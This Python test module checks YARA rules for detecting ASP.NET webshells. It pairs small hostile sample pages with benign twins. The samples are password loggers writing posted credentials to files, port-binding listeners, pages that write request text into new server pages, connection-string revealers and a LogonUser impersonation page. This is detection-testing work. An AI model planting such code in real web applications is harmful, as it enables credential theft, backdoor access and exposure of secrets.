"""YARA rules for X44's siblings of past misses that nothing found (issue 14, helper X49, session 20).

``bench/webfiles/siblings.py`` rewrites each first-sight miss in other languages, containers, request sources
and sink spellings. On main before this work (2cb2d31) 46 of its 1,151 siblings were found by nothing, in five
shapes; each now has a rule:

* X26's OWA credential logger with its write in a handler, a service, a code-behind file or a module, or the
  user name from a header, cookie, body or text box (22): ``EXT_WEBSHELL_Posted_Password_Written_To_File``
  (``data/rules/credential_harvesters.yar``) names the posted password written to a file;
* the ferryman bind tunnel with its port from a text box or a server input (6):
  ``EXT_WEBSHELL_Page_Listens_On_Given_Port`` (``data/rules/tunnels.yar``);
* the request-text-to-page writer with its text from a server control (6): ``
  EXT_WEBSHELL_Request_Text_Written_To_Server_Page`` takes a control's text (``data/rules/page_droppers.yar``);
* the connection string printed by the entry the body or a posted file names (6):
  ``EXT_WEBSHELL_Connection_String_Named_By_Request`` (``data/rules/key_theft.yar``);
* the typed-account page reading the account from the body or a posted file (4):
  ``EXT_WEBSHELL_Page_Acts_As_Typed_Windows_Account`` takes those reads (``data/rules/impersonation_pages.yar``);
* the app-root uploader (VB) naming the file from the body or a posted file's stream (2):
  ``EXT_WEBSHELL_Upload_Saved_To_Request_Path`` (``test_x49_behaviour_only.py``).

The pages are harmless files in the siblings' shapes, written here (nothing is compiled or run); the ordinary
pages are the nearest everyday ones (the siblings' twins: the same code with the request value a literal).
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, quiet_pages_test, rule_tables

_PASSWORD = "EXT_WEBSHELL_Posted_Password_Written_To_File"
_LISTEN = "EXT_WEBSHELL_Page_Listens_On_Given_Port"
_TO_PAGE = "EXT_WEBSHELL_Request_Text_Written_To_Server_Page"
_CONNSTR = "EXT_WEBSHELL_Connection_String_Named_By_Request"
_TYPED = "EXT_WEBSHELL_Page_Acts_As_Typed_Windows_Account"

_CS = '<%@ Page Language="C#" %>\n<script runat="server">\n{}\n</script>\n'
_VB = '<%@ Page Language="VB" %>\n<script runat="server">\n{}\n</script>\n'

PASSWORDS: list[Page] = [
    (
        # the user name digested, the password kept as typed: still a logger
        "cs-digest-of-the-name-beside-the-password",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="L" %>\nusing System; using System.IO; using System.Text; using System.Web;\n'
        "public class L : IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
        "  public void ProcessRequest(HttpContext context) {\n    var h = System.Security.Cryptography.SHA256.Create();\n"
        '    File.AppendAllText(context.Server.MapPath("~/App_Data/l.txt"), Convert.ToBase64String(h.ComputeHash('
        'Encoding.UTF8.GetBytes(context.Request.Form["username"]))) + ":" + context.Request.Form["password"] + "\\n");\n  }\n}\n',
    ),
    (
        "cs-handler-appends-form",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="L" %>\nusing System.IO;\nusing System.Web;\n'
        "public class L : IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
        "  public void ProcessRequest(HttpContext context) {\n"
        '    File.AppendAllText(context.Server.MapPath("~/App_Data/l.txt"), context.Request.Headers["X-U"] + ":"'
        ' + context.Request.Form["password"] + "\\r\\n");\n  }\n}\n',
    ),
    (
        "vb-code-behind",
        ".vb",
        "Imports System.IO\n\nPartial Class Logon\n    Inherits System.Web.UI.Page\n"
        "    Protected Sub Page_Load(sender As Object, e As EventArgs) Handles Me.Load\n"
        '        File.AppendAllText(Server.MapPath("~/App_Data/l.txt"), Box.Text & ":" & Request.Form("password") & vbCrLf)\n'
        "    End Sub\nEnd Class\n",
    ),
    (
        "cs-module-stream-writer",
        ".cs",
        "using System;\nusing System.IO;\nusing System.Web;\n\npublic class M : IHttpModule {\n"
        "  public void Init(HttpApplication app) { app.BeginRequest += (s, e) => {\n"
        "    var c = app.Context;\n"
        '    using (var w = new StreamWriter(@"C:\\Windows\\Temp\\m.log", true)) w.WriteLine(c.Request.Cookies["u"].Value + ":"'
        ' + c.Request.Form["passwd"]);\n'
        "  }; }\n  public void Dispose() { }\n}\n",
    ),
]  # fmt: skip

PASSWORD_ORDINARY: list[Page] = [
    (
        "cs-logon-logs-user-name",
        ".aspx",
        _CS.format(
            "void Login_Click(object s, EventArgs e) {\n"
            '  bool ok = System.Web.Security.Membership.ValidateUser(Request.Form["username"], Request.Form["password"]);\n'
            '  System.IO.File.AppendAllText(Server.MapPath("~/App_Data/audit.log"), Request.Form["username"] + (ok ? " in" : " refused") + "\\r\\n");\n}'
        ),
    ),
    (
        # the siblings' twin: the same write with the values literals
        "cs-handler-appends-literals",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="L" %>\nusing System.IO;\nusing System.Web;\n'
        "public class L : IHttpHandler {\n  public bool IsReusable { get { return true; } }\n"
        "  public void ProcessRequest(HttpContext context) {\n"
        '    File.AppendAllText(context.Server.MapPath("~/App_Data/l.txt"), "x" + ":" + "hostname" + "\\r\\n");\n  }\n}\n',
    ),
    (
        # a user store keeping the password's digest, not the password (IL3, session 22)
        "cs-user-store-keeps-digest",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="U" %>\nusing System; using System.IO; using System.Text; using System.Web;\n'
        "public class U : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext ctx) {\n    var h = System.Security.Cryptography.SHA256.Create();\n"
        '    File.AppendAllText(ctx.Server.MapPath("~/App_Data/users.txt"), ctx.Request.Form["username"] + ":"'
        ' + Convert.ToBase64String(h.ComputeHash(Encoding.UTF8.GetBytes(ctx.Request.Form["password"]))) + "\\n");\n  }\n}\n',
    ),
    (
        "vb-writer-keeps-config-hash",
        ".aspx",
        _VB.format(
            "Sub Register_Click(sender As Object, e As EventArgs)\n"
            '  Using w As New System.IO.StreamWriter(Server.MapPath("~/App_Data/users.txt"), True)\n'
            '    w.WriteLine(Request.Form("username") & ":" & FormsAuthentication.HashPasswordForStoringInConfigFile('
            'Request.Form("password"), "SHA1"))\n  End Using\nEnd Sub'
        ),
    ),
]  # fmt: skip

LISTENERS: list[Page] = [
    (
        "cs-port-from-text-box",
        ".aspx",
        _CS.format(
            "void Page_Load(object s, EventArgs e) {\n"
            "  var l = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Any, int.Parse(Box.Text));\n"
            "  l.Start(); var c = l.AcceptSocket(); c.Send(Request.BinaryRead(Request.ContentLength));\n}"
        )
        + '<form runat="server"><asp:TextBox ID="Box" runat="server" /></form>\n',
    ),
    (
        "vb-port-from-html-input",
        ".aspx",
        _VB.format(
            "Sub Page_Load(sender As Object, e As EventArgs)\n"
            "  Dim l As New System.Net.Sockets.TcpListener(System.Net.IPAddress.Any, CInt(Box.Value))\n"
            "  l.Start()\n  Dim c = l.AcceptTcpClient()\nEnd Sub"
        )
        + '<form runat="server"><input type="text" id="Box" runat="server" /></form>\n',
    ),
    (
        "cs-socket-bound-to-query-port",
        ".aspx",
        _CS.format(
            "void Page_Load(object s, EventArgs e) {\n"
            "  var k = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork,"
            " System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp);\n"
            '  k.Bind(new System.Net.IPEndPoint(System.Net.IPAddress.Any, int.Parse(Request.QueryString["p"])));\n'
            "  k.Listen(1); var c = k.Accept();\n}"
        ),
    ),
]

LISTENER_ORDINARY: list[Page] = [
    (
        # a port check: connects out to the typed host and port, listens on nothing
        "cs-port-check",
        ".aspx",
        _CS.format(
            "void Check_Click(object s, EventArgs e) {\n"
            "  using (var c = new System.Net.Sockets.TcpClient()) {\n"
            '    try { c.Connect("smtp.contoso.local", int.Parse(Port.Text)); Result.Text = "open"; }\n'
            '    catch (System.Net.Sockets.SocketException) { Result.Text = "closed"; }\n  }\n}'
        )
        + '<form runat="server"><asp:TextBox ID="Port" runat="server" /><asp:Label ID="Result" runat="server" /></form>\n',
    ),
]

TO_PAGE: list[Page] = [
    (
        "cs-text-box-into-page",
        ".aspx",
        _CS.format('void Page_Load(object s, EventArgs e) {\n  System.IO.File.WriteAllText(Server.MapPath("note.aspx"), Box.Text);\n}')
        + '<form runat="server"><asp:TextBox ID="Box" runat="server" /></form>\n',
    ),
    (
        "vb-html-input-into-handler",
        ".aspx",
        _VB.format('Sub Page_Load(s As Object, e As EventArgs)\n  System.IO.File.WriteAllText(Server.MapPath("x.ashx"), Box.Value)\nEnd Sub')
        + '<form runat="server"><input type="text" id="Box" runat="server" /></form>\n',
    ),
]  # fmt: skip

TO_PAGE_ORDINARY: list[Page] = [
    (
        "cs-text-box-into-text-file",
        ".aspx",
        _CS.format('void Page_Load(object s, EventArgs e) {\n  System.IO.File.WriteAllText(Server.MapPath("~/App_Data/note.txt"), Box.Text);\n}')
        + '<form runat="server"><asp:TextBox ID="Box" runat="server" /></form>\n',
    ),
    (
        "cs-literal-into-page",
        ".aspx",
        _CS.format('void Page_Load(object s, EventArgs e) {\n  System.IO.File.WriteAllText(Server.MapPath("note.aspx"), "<p>hostname</p>");\n}')
        + '<form runat="server"><asp:TextBox ID="Box" runat="server" /></form>\n',
    ),
]  # fmt: skip

CONNSTRS: list[Page] = [
    (
        "cs-entry-named-by-body",
        ".aspx",
        _CS.format(
            "void Page_Load(object s, EventArgs e) {\n"
            "  Response.Write(System.Configuration.ConfigurationManager.ConnectionStrings["
            "new System.IO.StreamReader(Request.InputStream).ReadToEnd()].ConnectionString);\n}"
        ),
    ),
    (
        "vb-entry-named-by-text-box",
        ".aspx",
        _VB.format(
            "Sub Show_Click(s As Object, e As EventArgs)\n"
            "  Result.Text = System.Configuration.ConfigurationManager.ConnectionStrings(Name.Text).ConnectionString\nEnd Sub"
        )
        + '<form runat="server"><asp:TextBox ID="Name" runat="server" /><asp:Label ID="Result" runat="server" /></form>\n',
    ),
]

CONNSTR_ORDINARY: list[Page] = [
    (
        # a report page: the entry chosen from a list, used to connect, never shown
        "cs-entry-chosen-to-connect",
        ".aspx",
        _CS.format(
            "void Run_Click(object s, EventArgs e) {\n"
            "  using (var con = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager"
            ".ConnectionStrings[Db.SelectedValue].ConnectionString)) { con.Open(); Result.Text = con.State.ToString(); }\n}"
        )
        + '<form runat="server"><asp:DropDownList ID="Db" runat="server" /><asp:Label ID="Result" runat="server" /></form>\n',
    ),
    (
        "cs-own-entry-provider-shown",
        ".aspx",
        _CS.format(
            "void Page_Load(object s, EventArgs e) {\n"
            '  Response.Write(System.Configuration.ConfigurationManager.ConnectionStrings["site"].ProviderName);\n}'
        ),
    ),
]

TYPED: list[Page] = [
    (
        "cs-account-from-posted-file",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<%@ Import Namespace="System.Security.Principal" %>\n'
        '<script runat="server">\n[System.Runtime.InteropServices.DllImport("advapi32.dll", SetLastError = true)]\n'
        "static extern bool LogonUser(string u, string d, string p, int t, int pr, out IntPtr h);\n"
        "void Page_Load(object s, EventArgs e) {\n  IntPtr h;\n"
        "  if (LogonUser(new StreamReader(Request.Files[0].InputStream).ReadToEnd(), \".\", "
        "new StreamReader(Request.Files[1].InputStream).ReadToEnd(), 9, 0, out h)) {\n"
        "    using (new WindowsIdentity(h).Impersonate()) {\n"
        "      foreach (string f in Directory.GetFiles(new StreamReader(Request.InputStream).ReadToEnd())) "
        'Response.Write(f + "<br/>");\n    }\n  }\n}\n</script>\n',
    ),
]

TYPED_ORDINARY: list[Page] = [
    (
        # a sign-in check: the account from the form, nothing listed or started as it
        "cs-sign-in-check",
        ".aspx",
        _CS.format(
            '[System.Runtime.InteropServices.DllImport("advapi32.dll", SetLastError = true)]\n'
            "static extern bool LogonUser(string u, string d, string p, int t, int pr, out IntPtr h);\n"
            "void Page_Load(object s, EventArgs e) {\n  IntPtr h;\n"
            '  bool ok = LogonUser(Request.Form["u"], "CONTOSO", Request.Form["p"], 3, 0, out h);\n'
            '  using (var id = new System.Security.Principal.WindowsIdentity(h)) { var c = id.Impersonate(); c.Undo(); }\n'
            '  Response.Write(ok ? "ok" : "no");\n}'
        ),
    ),
]

CASES: list[RuleCase] = [
    (_PASSWORD, PASSWORDS, PASSWORD_ORDINARY),
    (_LISTEN, LISTENERS, LISTENER_ORDINARY),
    (_TO_PAGE, TO_PAGE, TO_PAGE_ORDINARY),
    (_CONNSTR, CONNSTRS, CONNSTR_ORDINARY),
    (_TYPED, TYPED, TYPED_ORDINARY),
]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)

#: The twins and nearest everyday pages raise nothing at all (the report page choosing its connection from a
#: posted list raised config-secret until A14's cbd3330, session 20).
test_ordinary_page_raises_no_finding = quiet_pages_test([*PASSWORD_ORDINARY, *CONNSTR_ORDINARY, TO_PAGE_ORDINARY[0]])
